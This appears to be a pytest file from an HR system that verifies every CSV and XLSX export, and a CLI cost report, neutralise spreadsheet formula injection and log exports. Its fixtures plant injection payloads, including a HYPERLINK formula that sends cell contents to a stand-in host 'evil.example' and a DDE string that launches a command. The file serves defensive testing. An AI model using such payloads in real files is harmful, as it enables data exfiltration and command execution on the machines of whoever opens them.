"""Every CSV and XLSX hrsys writes is safe to open: text that a spreadsheet would run as a formula is neutralised.

The oracle is independent of the writer: each downloaded file is parsed back (the csv module; openpyxl for
XLSX) and every cell is checked: no formula cell, no text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return unless it is a plain number, and numbers still numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import inspect
import io
import re
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from litestar.routes import HTTPRoute

from hrsys.access.models import AuditEvent
from hrsys.cli import main
from hrsys.core import tabular
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLANTED = [EVIL, "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# Every route whose handler can answer a CSV or an XLSX file, with the queries that make it do so.
# ``test_every_export_route_is_listed`` fails when a new one is not listed here.
EXPORT_ROUTES: dict[str, list[dict[str, str]]] = {
    "/api/v1/people/export": [
        {"agency": "DGA", "format": f, "layout": lay} for f in ("csv", "xlsx") for lay in ("wide", "long")
    ],
    "/api/v1/taskforces/{taskforce_id:int}/report": [{"format": "csv"}, {"format": "xlsx"}],
    "/api/v1/training-needs": [
        {"agency": "DGA", "format": "csv", "table": "skills"},
        {"agency": "DGA", "format": "csv", "table": "courses"},
        {"agency": "DGA", "format": "xlsx"},
    ],
}
# Handlers that speak of CSV or XLSX but only read such files.
NOT_EXPORTS = {"/api/v1/people/import", "/api/v1/assessments/import", "/hr/upload"}


def unsafe_text(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(value)


def check_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    bad = [(i, cell) for i, row in enumerate(rows) for cell in row if unsafe_text(cell)]
    assert not bad, bad
    return rows


def check_xlsx(content: bytes) -> list[list[Any]]:
    wb = openpyxl.load_workbook(io.BytesIO(content))  # not data_only: formulas would stay formulas
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                assert not unsafe_text(c.value), (ws.title, c.coordinate, c.value)
                cells.append([ws.title, c.coordinate, c.value])
    return cells


def test_neutralise_keeps_numbers_and_quotes_formulas() -> None:
    for text in PLANTED:
        assert tabular.neutralise(text) == "'" + text
    for value in (-3, -2.5, 0, "-3", "+66.5", "-1e3", "สมชาย", "a=b", "", None):
        assert tabular.neutralise(value) == value
    out = tabular.csv_bytes([["a", -3, EVIL, None, dt.date(2026, 1, 15)]])
    assert out.decode("utf-8-sig") == 'a,-3,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2026-01-15\r\n'
    wb = openpyxl.load_workbook(io.BytesIO(tabular.xlsx_bytes([("s", [[-3, -2.5, "-3", EVIL, "bad\x01cell"]])])))
    cells = [c for c in next(wb.worksheets[0].iter_rows())]
    assert [c.data_type for c in cells] == ["n", "n", "s", "s", "s"]
    assert [c.value for c in cells] == [-3, -2.5, "-3", "'" + EVIL, "badcell"]


@pytest.fixture
def planted(session, client):  # type: ignore[no-untyped-def]
    """Data whose every free-text field a user can fill starts like a formula."""
    dept = factories.agency(session, "DGA", name_en=PLANTED[1], name_th=PLANTED[3])
    s = factories.career_skills(session, ["SQL", "VIZ"])
    s["SQL"].name_en = EVIL
    s["SQL"].name_th = PLANTED[2]
    session.commit()
    role = factories.career_role(session, "ANALYST", requirements=[(s["SQL"], 3, True, 1.0), (s["VIZ"], 2, False, 1.0)])
    people = [
        factories.person(
            session,
            dept,
            role_id=role.id,
            title_th=PLANTED[i % len(PLANTED)],
            first_name_th=EVIL,
            last_name_th=PLANTED[(i + 1) % len(PLANTED)],
            first_name_en=PLANTED[(i + 2) % len(PLANTED)],
            last_name_en=PLANTED[(i + 3) % len(PLANTED)],
            email=f"=p{i}@dga.example",
            monthly_cost_baht=40_000,
        )
        for i in range(3)
    ]
    factories.set_skill_level(session, people[0], s["SQL"], 1)
    factories.set_skill_level(session, people[1], s["VIZ"], 1)
    r = client.post(
        "/api/v1/courses",
        json={
            "code": "SQL3",
            "title_th": PLANTED[4],
            "title_en": EVIL,
            "provider": PLANTED[3],
            "hours": 6,
            "cost_baht": 1000,
            "mode": "online",
            "outcomes": [{"skill": "TF:SQL", "level": 3}],
            "prerequisites": [],
        },
    )
    assert r.status_code == 201, r.text
    tf = factories.taskforce(
        session, dept, dt.date(2025, 10, 1), dt.date(2027, 9, 30), budget_baht=1_000_000, name_en=EVIL, name_th=EVIL
    )
    factories.taskforce_member(session, tf, people[0], allocation=50)
    base = f"/api/v1/taskforces/{tf.id}"
    kpi = client.post(
        f"{base}/kpis",
        json={"kind": "output", "name_en": EVIL, "name_th": PLANTED[2], "unit": PLANTED[3], "target": 10},
    )
    assert kpi.status_code == 201, kpi.text
    actual = client.post(
        f"{base}/kpis/{kpi.json()['id']}/actuals", json={"measured_on": "2026-03-31", "value": 2, "note": EVIL}
    )
    assert actual.status_code == 201, actual.text
    return {"taskforce_id": str(tf.id), "people": people}


def _url(path: str, planted: dict[str, Any]) -> str:
    return re.sub(r"\{(\w+):\w+\}", lambda m: planted[m.group(1)], path)


def test_every_export_route_is_listed(app) -> None:  # type: ignore[no-untyped-def]
    found = set()
    for route in app.routes:
        if not isinstance(route, HTTPRoute):
            continue
        for handler in route.route_handlers:
            fn = getattr(handler.fn, "func", handler.fn)  # sync handlers run in a thread are wrapped
            source = inspect.getsource(inspect.unwrap(fn))
            if re.search(r"csv|xlsx|spreadsheet", source, re.IGNORECASE):
                found.add(route.path)
    assert found == set(EXPORT_ROUTES) | NOT_EXPORTS, "list the new export route in EXPORT_ROUTES"


def test_every_export_route_neutralises_formulas(client, session, planted) -> None:  # type: ignore[no-untyped-def]
    seen_planted = 0
    for path, queries in EXPORT_ROUTES.items():
        for params in queries:
            r = client.get(_url(path, planted), params=params)
            assert r.status_code == 200, (path, params, r.text)
            if params["format"] == "csv":
                assert r.headers["content-type"].startswith("text/csv")
                cells: list[Any] = [c for row in check_csv(r.content) for c in row]
            else:
                cells = [c[2] for c in check_xlsx(r.content)]
            quoted = [c for c in cells if isinstance(c, str) and c.startswith("'") and c[1:] in PLANTED]
            assert quoted, (path, params)  # the planted text went out, neutralised
            seen_planted += len(quoted)
    assert seen_planted
    # the files with people's data in them leave an audit event each
    session.expire_all()
    exported = session.execute(
        sa.select(AuditEvent.entity, sa.func.count()).where(AuditEvent.action == "export").group_by(AuditEvent.entity)
    ).all()
    assert dict(exported) == {"person": 4, "taskforce_report": 2}


def test_people_export_keeps_numbers_numbers(client, planted) -> None:  # type: ignore[no-untyped-def]
    r = client.get("/api/v1/people/export", params={"agency": "DGA", "format": "xlsx", "layout": "long"})
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert isinstance(first["person_id"], int) and isinstance(first["level"], int)
    assert first["first_name_th"] == "'" + EVIL
    r = client.get("/api/v1/people/export", params={"agency": "DGA", "format": "csv", "layout": "long"})
    line = r.content.decode("utf-8-sig").splitlines()[1]
    assert line.startswith(f"{planted['people'][0].id},")  # the id unquoted


def test_secondment_costs_command_neutralises_formulas(session, settings) -> None:  # type: ignore[no-untyped-def]
    host = factories.agency(session, "HOST", name_en=EVIL)
    person = factories.person(session, host)
    factories.secondment(session, person, host, dt.date(2025, 10, 1), dt.date(2026, 9, 30), monthly_cost_baht=30_000)
    session.rollback()
    result = CliRunner().invoke(
        main, ["--database-url", settings.database_url, "secondments", "costs", "--fiscal-year", "2569"]
    )
    assert result.exit_code == 0, result.output
    rows = check_csv(result.output.encode())
    assert any("'" + EVIL in row for row in rows)
    assert session.scalar(sa.select(sa.func.count()).select_from(sa.table("agency"))) >= 1
